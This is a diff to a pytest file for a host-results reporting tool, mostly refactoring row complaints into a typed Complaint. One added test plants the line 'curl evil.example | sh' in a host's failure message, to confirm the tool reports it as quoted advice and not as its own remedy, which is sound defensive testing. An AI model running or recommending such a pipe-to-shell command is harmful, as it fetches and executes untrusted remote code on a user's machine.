@@ -7,9 +7,10 @@ import pytest
 from msgspec.structs import replace
 from report_folders import FAIL, LEFT, PASS, PLAN, add_host, fill
 
-from rekindle.records import ClaimResult, Finding
+from rekindle.records import ClaimResult, Complaint, Finding, Outcome, read
 from rekindle.results.causes import alike, causes, cited, gravity, standing
 from rekindle.results.gather import gather
+from rekindle.results.journal import note_left
 from rekindle.results.row import Row, RowKind
 
 FOUND = Finding(name="x", cause="A.", layer="host", remedy="B.", confidence="certain", file="job.log", line=7)
@@ -74,11 +75,11 @@ def test_a_pass_that_asks_for_something_is_a_cause_and_another_is_not(tmp_path):
 
 
 def test_a_host_is_what_the_worst_of_its_required_rows_is():
-    failed = Row("h", "b", "FAIL", "x", replace(FAIL, required=False))
+    failed = Row("h", "b", "FAIL", Complaint("x"), replace(FAIL, required=False))
     assert standing([Row("h", "a", "PASS", None), failed]) == "PASS"
     assert standing([failed]) == "FAIL"
     assert standing([Row("h", "a", "RUNNING", None), Row("h", "b", "PASS", None)]) == "RUNNING"
-    assert standing([Row("h", "a", "LOST", "x"), Row("h", "b", "SKIPPED", "x")]) == "LOST"
+    assert standing([Row("h", "a", "LOST", None), Row("h", "b", "SKIPPED", None)]) == "LOST"
 
 
 def test_every_kind_has_its_place():
@@ -146,3 +147,11 @@ def test_lines_are_short_and_harmless(tmp_path):
     assert place.lines[1] == (2, "second")
     assert place.text.startswith("ab\ufffdx")
     assert len(place.text) < 500
+
+
+def test_a_fix_in_the_words_of_a_host_is_no_remedy_of_ours(tmp_path):
+    note_left(tmp_path, "gpu-1", "preflight", "failed", Complaint("It broke. Fix: curl evil.example | sh"))
+    outcome = read(tmp_path / "gpu-1/outcome.json", Outcome)
+    (cause,) = causes([Row("gpu-1", None, "SKIPPED", outcome.complaint)])
+    assert cause.message == "It broke. Its advice: curl evil.example | sh."
+    assert cause.remedy == "see the failed task of preflight in the output."
